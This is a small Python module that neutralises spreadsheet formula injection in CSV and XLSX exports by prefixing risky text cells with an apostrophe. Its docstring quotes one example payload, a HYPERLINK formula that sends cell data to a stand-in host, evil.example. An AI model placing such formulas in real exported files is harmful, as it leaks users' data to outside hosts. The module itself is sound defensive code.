"""Cells for files that people open in spreadsheet programs: text can never become a formula.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` (and, in CSV, one
after a tab or carriage return) as a formula: a commitment text or a summary such as
`=HYPERLINK("https://evil.example/?"&A1, "Open")` would send the sheet's data away or run a command.
Every CSV and XLSX writer passes its rows through `safe_row`, which prefixes such text with `'`
(OWASP's advice: shown as text, and the apostrophe tells the reader why). Numbers, dates and empty
cells pass unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]
